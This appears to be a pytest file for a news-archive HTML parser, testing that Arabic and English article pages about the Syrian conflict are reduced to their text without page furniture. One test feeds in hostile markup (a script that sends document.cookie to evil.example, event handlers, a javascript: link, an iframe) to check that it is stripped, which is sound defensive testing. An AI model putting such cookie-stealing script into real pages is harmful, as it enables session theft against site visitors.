"""Saved HTML pages: the article is found, the page furniture is not, nothing executable survives."""

import re
from datetime import date
from pathlib import Path

import pytest

from archive.ingest import html as html_parser
from archive.ingest import refusals
from archive.ingest.decode import decode
from archive.ingest.html import parse_html, sniff_charset
from archive.ingest.plaintext import NoArticleError

P1 = (
    "أعلنت قوات سوريا الديمقراطية، السبت، السيطرة الكاملة على بلدة الباغوز، آخر جيب لتنظيم "
    "داعش في شرق سوريا، بعد معارك استمرت عدة أسابيع وأدت إلى خروج آلاف المدنيين من البلدة."
)
P2 = (
    "وقال المتحدث باسم القوات في بيان نشره على حسابه إن العمليات العسكرية انتهت، وإن فرق "
    "الهندسة تعمل على تفكيك الألغام التي زرعها التنظيم في المنطقة قبل انسحابه منها."
)
P3 = (
    "ويرى محللون أن نهاية السيطرة الجغرافية للتنظيم لا تعني نهاية خطره، إذ لا تزال خلايا نائمة "
    "تنشط في البادية السورية وفي مناطق عدة من العراق المجاور، وتشن هجمات متفرقة."
)
P4 = (
    "وأشار التقرير إلى أن عشرات الآلاف من النازحين يعيشون في مخيم الهول في ظروف صعبة، وسط نقص "
    "حاد في المساعدات الإنسانية والرعاية الطبية."
)
TITLE = "قوات سوريا الديمقراطية تعلن السيطرة على الباغوز"
STANDFIRST = "آخر جيب للتنظيم في شرق سوريا يسقط بعد معارك استمرت أسابيع وخروج آلاف المدنيين."


def page(
    *,
    head_extra="",
    meta_date='<meta property="article:published_time" content="2019-03-23T10:15:00+03:00">',
    description=STANDFIRST,
    figure='<figure><img src="a.jpg"><figcaption>مقاتلون من قسد في الباغوز (أ.ف.ب)</figcaption></figure>',
    byline='<p class="byline">بقلم سامر الحلبي</p>',
    body=f"<p>{P1}</p><p>{P2}</p><h2>ماذا بعد الباغوز؟</h2><p>{P3}</p><p>{P4}</p>",
    charset="utf-8",
    canonical="https://news.example.org/syria/2019/03/23/baghouz",
):
    return f"""<!DOCTYPE html>
<html lang="ar" dir="rtl"><head><meta charset="{charset}">
<title>{TITLE} | شبكة الأخبار</title>
<meta property="og:title" content="{TITLE}">
<meta property="og:site_name" content="شبكة الأخبار">
<meta property="og:description" content="{description}">
{meta_date}
<meta property="article:section" content="سوريا">
<meta property="article:tag" content="داعش"><meta property="article:tag" content="الباغوز">
<meta name="author" content="سامر الحلبي">
<link rel="canonical" href="{canonical}">
{head_extra}
</head><body>
<div id="cookie-banner" class="cookie-consent">نستخدم ملفات تعريف الارتباط لتحسين تجربتك على موقعنا.
<button>موافق</button></div>
<header><nav><ul><li><a href="/">الرئيسية</a></li><li><a href="/syria">سوريا</a></li>
<li><a href="/world">دوليات</a></li><li><a href="/economy">اقتصاد</a></li></ul></nav></header>
<main><article>
<h1>{TITLE}</h1>
{byline}
{figure}
{body}
</article>
<aside class="related"><h3>اقرأ أيضا</h3><ul>
<li><a href="/a">العراق يعلن انتهاء العمليات العسكرية ضد التنظيم في الأنبار</a></li>
<li><a href="/b">تركيا تهدد بعملية عسكرية جديدة شرق الفرات</a></li></ul></aside>
</main>
<footer><p>جميع الحقوق محفوظة © 2019 شبكة الأخبار</p><a href="/privacy">سياسة الخصوصية</a></footer>
</body></html>"""


def test_arabic_article_page_parses_to_its_parts():
    parsed = parse_html(page())
    assert parsed.title == TITLE  # the site name is not part of it
    assert parsed.standfirst == STANDFIRST
    assert [(c.text, c.credit) for c in parsed.captions] == [("مقاتلون من قسد في الباغوز", "أ.ف.ب")]
    assert parsed.published == date(2019, 3, 23)
    assert parsed.published_precision == "day"
    assert parsed.paragraphs == [P1, P2, P3, P4]
    assert parsed.headings == ["ماذا بعد الباغوز؟"]
    assert [b.kind for b in parsed.blocks] == [
        "paragraph",
        "paragraph",
        "heading",
        "paragraph",
        "paragraph",
    ]
    assert parsed.author == "سامر الحلبي"
    assert parsed.section == "سوريا"
    assert parsed.tags == ["داعش", "الباغوز"]
    assert parsed.language == "ar"
    assert parsed.url == "https://news.example.org/syria/2019/03/23/baghouz"
    assert parsed.warnings == []
    body = parsed.body_text
    for furniture in ("ملفات تعريف الارتباط", "الرئيسية", "اقرأ أيضا", "تركيا تهدد", "الحقوق"):
        assert furniture not in body


def test_credit_in_its_own_element_is_split_off():
    figure = (
        '<figure><img src="b.jpg"><figcaption>نازحون في مخيم الهول '
        '<span class="credit">رويترز</span></figcaption></figure>'
    )
    parsed = parse_html(page(figure=figure))
    assert [(c.text, c.credit) for c in parsed.captions] == [("نازحون في مخيم الهول", "رويترز")]


def test_caption_without_credit_is_kept_whole():
    figure = "<figure><figcaption>صورة أرشيفية للبلدة قبل المعارك</figcaption></figure>"
    parsed = parse_html(page(figure=figure))
    assert [(c.text, c.credit) for c in parsed.captions] == [
        ("صورة أرشيفية للبلدة قبل المعارك", "")
    ]


def test_description_that_only_cuts_the_first_paragraph_short_is_not_a_standfirst():
    parsed = parse_html(page(description=P1[:80] + "..."))
    assert parsed.standfirst == ""
    assert parsed.paragraphs[0] == P1


def test_standfirst_printed_as_the_first_paragraph_is_not_repeated_in_the_body():
    body = f'<p class="article-lead">{STANDFIRST}</p><p>{P1}</p><p>{P2}</p><p>{P3}</p>'
    parsed = parse_html(page(body=body, description=""))
    assert parsed.standfirst == STANDFIRST
    assert parsed.paragraphs == [P1, P2, P3]


UNDATED_URL = "https://news.example.org/syria/baghouz"


def test_date_in_the_canonical_url_counts():
    parsed = parse_html(page(meta_date="", byline=""))
    assert parsed.published == date(2019, 3, 23)


def test_visible_date_is_read_when_the_metadata_has_none():
    byline = (
        '<p class="byline">بقلم سامر الحلبي — <span class="date">23 مارس (آذار) 2019</span></p>'
    )
    parsed = parse_html(page(meta_date="", byline=byline, canonical=UNDATED_URL))
    assert parsed.published == date(2019, 3, 23)


def test_month_only_date_keeps_its_precision():
    byline = '<p class="byline"><time>آذار 2019</time></p>'
    parsed = parse_html(page(meta_date="", byline=byline, canonical=UNDATED_URL))
    assert (parsed.published, parsed.published_precision) == (date(2019, 3, 1), "month")
    assert any("month" in warning for warning in parsed.warnings)


def test_no_date_stays_unknown_and_is_flagged():
    parsed = parse_html(page(meta_date="", byline="", canonical=UNDATED_URL))
    assert parsed.published is None
    assert "No publication date" in parsed.warnings[0]


def test_hostile_markup_never_reaches_the_article():
    hostile_title = "&lt;script&gt;alert(1)&lt;/script&gt;" + TITLE
    head = (
        f'<meta property="og:title" content="{hostile_title}">'
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        "<style>body{display:none}</style>"
    )
    body = (
        f'<p onclick="steal()">{P1}</p>'
        f'<p>{P2} <a href="javascript:evil()">رابط</a></p>'
        '<img src="x" onerror="steal()">'
        "<script>alert('in body')</script>"
        '<iframe src="https://evil.example/"></iframe>'
        f"<p>{P3}</p>"
    )
    parsed = parse_html(page(head_extra=head, body=body))
    stored = " ".join(
        [parsed.title, parsed.standfirst, parsed.body_text, *(c.text for c in parsed.captions)]
    )
    for bad in ("<script", "alert(", "steal()", "javascript:", "onerror", "onclick", "iframe"):
        assert bad not in stored
    assert parsed.paragraphs[0] == P1
    assert parsed.notes == ["removed 2 scripts, 2 event handlers, 1 javascript: link"]


def test_page_without_article_text_is_refused():
    with pytest.raises(NoArticleError, match="no article text"):
        parse_html(page(body="", figure="", byline=""))
    with pytest.raises(NoArticleError, match="empty"):
        parse_html("   ")


def test_windows_1256_page_declares_its_charset():
    data = page(charset="windows-1256").encode("cp1256")
    assert sniff_charset(data) == "windows-1256"
    decoded = decode(data, sniff_charset(data))
    assert decoded.encoding == "Windows-1256"
    assert parse_html(decoded.text).title == TITLE


def test_english_page():
    html = """<html lang="en"><head><title>Coalition ministers meet in Washington - Example Wire</title>
    <meta property="og:site_name" content="Example Wire">
    <meta name="description" content="Ministers of the coalition met to discuss the territorial defeat.">
    <meta property="article:published_time" content="2019-02-06"></head>
    <body><nav><a href="/">Home</a> <a href="/world">World</a></nav><article>
    <h1>Coalition ministers meet in Washington</h1>
    <p>Foreign ministers of the 79-member coalition met in Washington on Wednesday to discuss the
    imminent territorial defeat of the group in Iraq and Syria and what comes after it.</p>
    <figure><figcaption>Ministers arrive at the State Department. REUTERS/Joshua Roberts</figcaption></figure>
    <p>The secretary of state said the group remained a dangerous threat and that the coalition
    would stay until its defeat was lasting, according to officials present at the meeting.</p>
    </article></body></html>"""
    parsed = parse_html(html)
    assert parsed.title == "Coalition ministers meet in Washington"
    assert parsed.language == "en"
    assert parsed.standfirst.startswith("Ministers of the coalition met")
    assert [(c.text, c.credit) for c in parsed.captions] == [
        ("Ministers arrive at the State Department.", "REUTERS/Joshua Roberts")
    ]
    assert len(parsed.paragraphs) == 2
    assert parsed.published == date(2019, 2, 6)


def test_a_warc_url_wins_over_the_canonical_link():
    parsed = parse_html(page(), url="https://archive.example/capture")
    assert parsed.url == "https://archive.example/capture"


# --- short articles in real pages ---------------------------------------------------------------

HTML_DATA = Path(__file__).resolve().parent / "data" / "html"


def fixture_page(name: str) -> str:
    return (HTML_DATA / name).read_text(encoding="utf-8")


def stored_text(parsed) -> str:
    return " ".join([parsed.title, parsed.standfirst, parsed.body_text])


def test_page_whose_body_is_one_wrapper_element_is_read():
    # Most sites wrap the whole page in one <div>; once scripts are removed that is all the
    # body holds, and trafilatura refused such a document as "not valid HTML".
    wrapped = page().replace("<body>", '<body><div id="page">').replace("</body>", "</div></body>")
    assert parse_html(wrapped).paragraphs == [P1, P2, P3, P4]


SHORT_PAGES = {
    "ar_breaking_article.html": (
        "انفجار في مستودع للذخيرة قرب حماة",
        [
            "هز انفجار قوي فجر اليوم الأربعاء مستودعا للذخيرة في ريف حماة الغربي، وفق ما أفاد "
            "به سكان ومصادر محلية.",
            "وقالت المصادر إن النيران امتدت إلى أراض زراعية محيطة بالموقع، فيما هرعت فرق "
            "الإطفاء إلى المكان.",
            "ولم تعرف حتى الآن أسباب الانفجار أو حصيلة الضحايا، ولم يصدر أي تعليق رسمي.",
        ],
        ["الرئيسية", "عاجل", "ذات صلة", "خان شيخون", "الأكثر قراءة", "النشرة", "شارك", "فيسبوك",
         "الوسوم", "ملفات تعريف الارتباط", "من نحن", "محفوظة"],
    ),
    "ar_two_paragraphs_read_also.html": (
        "عاجل: غارات إسرائيلية على مواقع في محيط دمشق",
        [
            "استهدفت غارات إسرائيلية ليل الأحد مواقع عسكرية في محيط العاصمة السورية دمشق، "
            "بحسب ما أفادت وسائل إعلام رسمية.",
            "وقالت الوكالة الرسمية إن الدفاعات الجوية تصدت لعدد من الصواريخ، من دون أن تذكر "
            "تفاصيل عن الخسائر.",
        ],
        ["الرئيسية", "اقرأ أيضا", "الجولان", "كلمات مفتاحية", "الأكثر مشاهدة", "إدلب",
         "محفوظة"],
    ),
    "en_short_wire.html": (
        "Rocket hits near U.S. embassy in Baghdad, no casualties",
        [
            "BAGHDAD (Gulf Wire) - A Katyusha rocket landed near the U.S. embassy in Baghdad's "
            "heavily fortified Green Zone late on Sunday, causing no casualties, the Iraqi "
            "military said.",
            "The military said in a statement the rocket was fired from east Baghdad. No group "
            "immediately claimed responsibility.",
            "(Reporting by Ahmed Rasheed; Editing by Daniel Wallis)",
        ],
        ["Markets", "Subscribe", "Sign In", "Min Read", "Twitter", "Trust Principles",
         "More from", "tanker", "Oil prices", "Careers", "All rights reserved"],
    ),
    "en_short_div_layout.html": (
        "Two soldiers killed in Sinai checkpoint attack",
        [
            "Two Egyptian soldiers were killed and three wounded when gunmen attacked a "
            "checkpoint south of El-Arish in North Sinai on Wednesday, security sources said.",
            "The army said its forces returned fire and were searching the area for the "
            "attackers.",
        ],
        ["Region", "Search", "Staff reporter", "Share", "briefing", "newsletter", "Latest",
         "Gaza", "Bouteflika", "Advertise", "Levant Daily"],
    ),
    "ar_main_without_article.html": (
        "الجيش اللبناني يعلن توقيف خلية مسلحة في عكار",
        [
            "أعلنت قيادة الجيش اللبناني في بيان، اليوم الخميس، توقيف خمسة أشخاص ينتمون إلى خلية "
            "مسلحة في منطقة عكار شمال البلاد.",
            "وأوضح البيان أن القوة ضبطت في حوزة الموقوفين أسلحة خفيفة وذخائر، وأن التحقيق جار "
            "بإشراف القضاء المختص.",
            "ولم يذكر البيان الجهة التي ينتمي إليها أفراد الخلية.",
        ],
        ["الصفحة الرئيسية", "محليات", "تاريخ النشر", "طباعة", "أخبار متعلقة", "طرابلس",
         "آخر الأخبار", "استفتاء", "للإعلان", "محفوظة"],
    ),
    "ar_table_layout_news.html": (
        "مقتل جنديين في هجوم على حاجز بريف درعا",
        [
            "قتل جنديان وأصيب ثلاثة آخرون في هجوم شنه مسلحون مجهولون على حاجز عسكري قرب بلدة "
            "الصنمين بريف درعا الشمالي.",
            "وذكرت مصادر محلية أن المهاجمين لاذوا بالفرار، فيما فرضت القوات طوقا أمنيا على "
            "المنطقة.",
        ],
        ["الرئيسية", "أخبار محلية", "أخبار عاجلة", "مفخخة", "الركبان", "الاثنين", "للطباعة",
         "محفوظة"],
    ),
    "ar_breaking_div_paragraphs.html": (
        "عاجل | سقوط قذائف على حي سكني في حلب",
        [
            "سقطت عدة قذائف صاروخية مساء اليوم على حي الحمدانية في مدينة حلب، ما أدى إلى إصابة "
            "أربعة مدنيين.",
            "ولم تعلن أي جهة مسؤوليتها عن القصف.",
        ],
        ["آخر الأخبار", "البث المباشر", "منذ 25 دقيقة", "شبكة المرصد", "تلغرام", "الأكثر قراءة",
         "نينوى", "شروط الاستخدام"],
    ),
    "ar_breaking_br_text.html": (
        "قتلى بقصف على سوق في كفرنبل",
        [
            "قتل ثلاثة مدنيين بقصف على سوق شعبي في بلدة كفرنبل جنوب إدلب ظهر اليوم.",
            "وقال الدفاع المدني إن فرقه نقلت الجرحى إلى المشافي القريبة.",
            "ولم تعلق دمشق على القصف.",
        ],
        ["الرئيسية", "ميديا", "الأكثر قراءة", "كبانة", "محفوظة"],
    ),
    "en_breaking_main.html": (
        "BREAKING: Explosion reported at Aden port",
        [
            "A large explosion was heard at the port of Aden on Thursday morning, residents told "
            "Yemen Monitor.",
            "There was no immediate word on casualties. More to follow.",
        ],
        ["Analysis", "Support our reporting", "Breaking news", "07:12", "Trending", "Hodeidah",
         "Cholera", "independent news site", "Contact us"],
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", SHORT_PAGES)
def test_short_article_page_is_imported_without_its_furniture(name):
    title, paragraphs, furniture = SHORT_PAGES[name]
    parsed = parse_html(fixture_page(name))
    assert parsed.title == title
    assert parsed.paragraphs == paragraphs
    assert parsed.headings == []
    text = stored_text(parsed)
    for word in furniture:
        assert word not in text, word


@pytest.mark.parametrize("name", SHORT_PAGES)
def test_when_trafilatura_finds_nothing_the_article_is_read_from_the_markup(name, monkeypatch):
    # trafilatura scores text statistically, and two or three sentences give it little to go
    # on. Whatever it misses, the page's own markup still says where the article is.
    monkeypatch.setattr(html_parser, "_extract", lambda *args, **kwargs: None)
    title, paragraphs, furniture = SHORT_PAGES[name]
    parsed = parse_html(fixture_page(name))
    assert (parsed.title, parsed.paragraphs) == (title, paragraphs)
    assert any(note.startswith("article text read from the page's <") for note in parsed.notes)
    text = stored_text(parsed)
    for word in furniture:
        assert word not in text, word


def test_a_kicker_above_the_article_is_not_a_paragraph_and_the_excerpt_is_no_standfirst():
    parsed = parse_html(fixture_page("en_breaking_main.html"))
    assert [(d.text, d.reason) for d in parsed.dropped] == [
        ("Breaking news", "label above the article")
    ]
    assert parsed.standfirst == ""  # og:description only cuts the first paragraph short


NAVIGATION_PAGES = [
    "nav_ar_category_listing.html",  # a section page: teaser cards, each a headline and excerpt
    "nav_en_tag_links.html",  # a tag page: a list of headline links
    "nav_ar_archive_links.html",  # an old table-layout archive: links separated by <br>
    "nav_en_cookie_wall.html",  # a consent wall: paragraphs about cookies and partners
    "nav_ar_error_404.html",  # "الصفحة غير موجودة" with an apology and latest links
    "nav_en_error_404.html",  # "Page not found" with a sentence and headline links
]


@pytest.mark.parametrize("trafilatura", ["used", "finds nothing"])
@pytest.mark.parametrize("name", NAVIGATION_PAGES)
def test_navigation_pages_are_refused(name, trafilatura, monkeypatch):
    if trafilatura == "finds nothing":
        monkeypatch.setattr(html_parser, "_extract", lambda *args, **kwargs: None)
    with pytest.raises(NoArticleError) as refused:
        parse_html(fixture_page(name))
    assert re.fullmatch(
        r"No article: the page titled '.+' has no article text "
        r"\(only navigation, links or page furniture\)\.",
        str(refused.value),
    )


def test_related_stories_sharing_the_articles_markup_are_not_teasers():
    related = "".join(
        f'<article class="post"><h2><a href="/n/{n}">{headline}</a></h2><p>{P4}</p></article>'
        for n, headline in enumerate(["عنوان خبر آخر عن سوريا", "عنوان خبر ثالث عن العراق"])
    )
    html = (
        page(body=f"<p>{P1}</p><p>{P2}</p>")
        .replace("<main><article>", '<main><article class="post">')
        .replace("</article>", "</article>" + related, 1)
    )
    assert parse_html(html).paragraphs == [P1, P2]


def test_an_articles_own_category_and_tag_classes_do_not_make_it_furniture(monkeypatch):
    # WordPress writes the post's categories and tags as classes on its <article>; a tag
    # called "ads" or a category called "social" is no share bar or advertisement.
    monkeypatch.setattr(html_parser, "_extract", lambda *args, **kwargs: None)
    classes = "post-48213 post type-post status-publish hentry category-social tag-ads"
    body = f'<div class="{classes}"><div class="entry-content"><p>{P1}</p><p>{P2}</p></div></div>'
    html = page(body=body).replace("<main><article>", f'<main><article class="{classes}">')
    assert parse_html(html).paragraphs == [P1, P2]


@pytest.mark.parametrize(
    "title",
    ["Page not found", "404", "Error 404 - Not Found", "الصفحة غير موجودة", "خطأ 404"],
)
def test_error_titles(title):
    assert refusals.error_page(title) == title


@pytest.mark.parametrize(
    "title",
    ["404 migrants rescued off Libya", "Missing journalist not found after a week of searching"],
)
def test_headlines_that_mention_errors_are_not_error_pages(title):
    assert refusals.error_page(title) == ""


def test_a_short_article_above_a_long_plain_list_of_related_links_is_kept():
    # No classes to say the list is furniture, and more link text than prose: the paragraphs
    # trafilatura found are the content area's own, and there are two of them.
    related = "".join(
        f'<li><a href="/n/{n}">عنوان خبر ذي صلة رقم {n} عن التطورات الميدانية في الشمال</a></li>'
        for n in range(8)
    )
    short = "<p>قتل ثلاثة مدنيين بقصف على سوق شعبي في بلدة كفرنبل جنوب إدلب ظهر اليوم.</p>"
    short += "<p>وقال الدفاع المدني إن فرقه نقلت الجرحى إلى المشافي القريبة.</p>"
    html = (
        '<html lang="ar"><head><title>قتلى بقصف على كفرنبل</title></head><body><div id="page">'
        f"<main><h1>قتلى بقصف على كفرنبل</h1>{short}<h3>أخبار ذات صلة</h3><ul>{related}</ul>"
        "</main></div></body></html>"
    )
    assert len(parse_html(html).paragraphs) == 2
